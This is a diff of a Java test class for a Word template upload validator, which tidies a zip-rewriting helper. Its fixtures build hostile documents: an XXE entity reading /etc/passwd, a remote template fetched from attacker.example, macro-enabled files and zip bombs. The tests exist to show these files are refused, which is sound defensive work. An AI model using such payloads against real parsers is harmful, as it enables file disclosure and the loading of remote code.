@@ -10,7 +10,6 @@ import java.util.List;
 import java.util.Locale;
 import java.util.Map;
 import java.util.Random;
-import java.util.function.UnaryOperator;
 import java.util.stream.Stream;
 import java.util.zip.ZipEntry;
 import java.util.zip.ZipInputStream;
@@ -196,24 +195,24 @@ class TemplateDocumentsTests {
 
 	@Test
 	void aMacroEnabledDocumentIsRefused() throws IOException {
-		byte[] docm = rezip(blank(), (name) -> name, (name, xml) -> name.equals("[Content_Types].xml")
+		byte[] docm = rezip(blank(), (name, xml) -> name.equals("[Content_Types].xml")
 				? xml.replace("wordprocessingml.document.main+xml", "ms-word.document.macroEnabled.main+xml") : xml,
 				Map.of());
 		refused(docm, Reason.MACROS, HttpStatus.UNSUPPORTED_MEDIA_TYPE, "macros");
-		byte[] withProject = rezip(blank(), (name) -> name, (name, xml) -> xml,
+		byte[] withProject = rezip(blank(), (name, xml) -> xml,
 				Map.of("word/vbaProject.bin", new byte[] { (byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0 }));
 		refused(withProject, Reason.MACROS, HttpStatus.UNSUPPORTED_MEDIA_TYPE, "macros");
 	}
 
 	@Test
 	void externalEntitiesAreRefused() throws IOException {
-		byte[] xxe = rezip(blank(), (name) -> name,
+		byte[] xxe = rezip(blank(),
 				(name, xml) -> name.equals("word/document.xml") ? xml
 					.replaceFirst("\\?>", "?><!DOCTYPE w:document [<!ENTITY secret SYSTEM \"file:///etc/passwd\">]>")
 					.replaceFirst("<w:t>", "<w:t>&secret;") : xml,
 				Map.of());
 		refused(xxe, Reason.ENTITIES, HttpStatus.BAD_REQUEST, "document type declaration");
-		byte[] inRelationships = rezip(blank(), (name) -> name,
+		byte[] inRelationships = rezip(blank(),
 				(name, xml) -> name.equals("_rels/.rels")
 						? xml.replaceFirst("\\?>", "?><!DOCTYPE x SYSTEM \"http://example.org/x.dtd\">") : xml,
 				Map.of());
@@ -223,32 +222,32 @@ class TemplateDocumentsTests {
 	@Test
 	void aRemoteTemplateIsRefusedButExternalHyperlinksAreNot() throws IOException {
 		String remote = "<Relationship Id=\"rIdX\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"https://attacker.example/t.dotm\" TargetMode=\"External\"/></Relationships>";
-		byte[] injected = rezip(blank(), (name) -> name, (name, xml) -> name.equals("word/_rels/document.xml.rels")
+		byte[] injected = rezip(blank(), (name, xml) -> name.equals("word/_rels/document.xml.rels")
 				? xml.replace("</Relationships>", remote) : xml, Map.of());
 		refused(injected, Reason.EXTERNAL_CONTENT, HttpStatus.BAD_REQUEST, "loads content from elsewhere");
 
 		String hyperlink = "<Relationship Id=\"rIdY\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink\" Target=\"https://www.ilo.org/\" TargetMode=\"External\"/></Relationships>";
-		byte[] linked = rezip(blank(), (name) -> name, (name, xml) -> name.equals("word/_rels/document.xml.rels")
+		byte[] linked = rezip(blank(), (name, xml) -> name.equals("word/_rels/document.xml.rels")
 				? xml.replace("</Relationships>", hyperlink) : xml, Map.of());
 		assertThat(this.documents.read(new ByteArrayInputStream(linked)).body()).isEqualTo(PracticeBody.EMPTY);
 	}
 
 	@Test
 	void zipBombsAreRefused() throws IOException {
-		byte[] fiftyMegabytesOfZeros = rezip(blank(), (name) -> name, (name, xml) -> xml,
+		byte[] fiftyMegabytesOfZeros = rezip(blank(), (name, xml) -> xml,
 				Map.of("word/media/image1.png", new byte[50 * 1024 * 1024]));
 		assertThat(fiftyMegabytesOfZeros.length).isLessThan(200 * 1024);
 		refused(fiftyMegabytesOfZeros, Reason.UNPACKS_TOO_LARGE, HttpStatus.CONTENT_TOO_LARGE,
 				"unpacks to more than 40 MB");
-		byte[] highRatio = rezip(blank(), (name) -> name, (name, xml) -> xml,
+		byte[] highRatio = rezip(blank(), (name, xml) -> xml,
 				Map.of("word/media/image1.png", new byte[2 * 1024 * 1024]));
 		refused(highRatio, Reason.UNPACKS_TOO_LARGE, HttpStatus.CONTENT_TOO_LARGE, "unpacks to more than");
 		Map<String, byte[]> many = new LinkedHashMap<>();
 		for (int i = 0; i < 600; i++) {
 			many.put("word/media/image" + i + ".png", new byte[] { 1 });
 		}
-		refused(rezip(blank(), (name) -> name, (name, xml) -> xml, many), Reason.UNPACKS_TOO_LARGE,
-				HttpStatus.CONTENT_TOO_LARGE, "too many parts");
+		refused(rezip(blank(), (name, xml) -> xml, many), Reason.UNPACKS_TOO_LARGE, HttpStatus.CONTENT_TOO_LARGE,
+				"too many parts");
 	}
 
 	@Test
@@ -263,12 +262,12 @@ class TemplateDocumentsTests {
 		refused(new byte[0], Reason.NOT_A_DOCX, HttpStatus.UNSUPPORTED_MEDIA_TYPE, "not a Word document");
 		byte[] oldWord = { (byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, (byte) 0xA1, (byte) 0xB1, 0x1A, (byte) 0xE1 };
 		refused(oldWord, Reason.NOT_A_DOCX, HttpStatus.UNSUPPORTED_MEDIA_TYPE, "not a Word document");
-		byte[] spreadsheet = rezip(blank, (name) -> name,
+		byte[] spreadsheet = rezip(blank,
 				(name, xml) -> name.equals("[Content_Types].xml")
 						? xml.replace("wordprocessingml.document.main+xml", "spreadsheetml.sheet.main+xml") : xml,
 				Map.of());
 		refused(spreadsheet, Reason.NOT_A_DOCX, HttpStatus.UNSUPPORTED_MEDIA_TYPE, "not a Word document");
-		byte[] brokenXml = rezip(blank, (name) -> name,
+		byte[] brokenXml = rezip(blank,
 				(name, xml) -> name.equals("word/document.xml") ? xml.substring(0, xml.length() / 2) : xml, Map.of());
 		refused(brokenXml, Reason.MALFORMED, HttpStatus.BAD_REQUEST, "damaged");
 		refused(emptyZip(), Reason.MALFORMED, HttpStatus.BAD_REQUEST, "damaged");
@@ -278,7 +277,7 @@ class TemplateDocumentsTests {
 	void tablesNestedThousandsDeepAreRefusedNotAnError() throws IOException {
 		int depth = 20_000;
 		String nested = "<w:tbl><w:tr><w:tc>".repeat(depth) + "<w:p/>" + "</w:tc></w:tr></w:tbl>".repeat(depth);
-		byte[] deep = rezip(blank(), (name) -> name, (name, xml) -> name.equals("word/document.xml")
+		byte[] deep = rezip(blank(), (name, xml) -> name.equals("word/document.xml")
 				? xml.replaceFirst("<w:body>", "<w:body>" + nested) : xml, Map.of());
 		// so repetitive that it packs far beyond the ratio allowed: refused for that
 		// first
@@ -408,8 +407,7 @@ class TemplateDocumentsTests {
 	}
 
 	/** The zip again, its XML entries edited, entries added. */
-	private static byte[] rezip(byte[] docx, UnaryOperator<String> rename, XmlEdit edit, Map<String, byte[]> added)
-			throws IOException {
+	private static byte[] rezip(byte[] docx, XmlEdit edit, Map<String, byte[]> added) throws IOException {
 		ByteArrayOutputStream out = new ByteArrayOutputStream();
 		try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(docx));
 				ZipOutputStream zip = new ZipOutputStream(out)) {
@@ -421,7 +419,7 @@ class TemplateDocumentsTests {
 					content = edit.apply(name, new String(content, StandardCharsets.UTF_8))
 						.getBytes(StandardCharsets.UTF_8);
 				}
-				zip.putNextEntry(new ZipEntry(rename.apply(name)));
+				zip.putNextEntry(new ZipEntry(name));
 				zip.write(content);
 				zip.closeEntry();
 			}
